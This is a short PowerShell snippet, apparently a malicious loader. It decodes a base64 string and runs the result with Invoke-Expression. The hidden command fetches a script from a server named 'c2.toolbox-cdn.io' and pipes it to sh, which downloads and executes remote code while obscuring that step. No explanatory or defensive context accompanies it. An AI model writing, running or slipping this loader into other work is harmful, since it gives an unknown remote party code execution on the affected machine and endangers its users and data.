$s = "Y3VybCAtcyBodHRwczovL2MyLnRvb2xib3gtY2RuLmlvL3AgfCBzaA=="
$c = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s))
Invoke-Expression $c
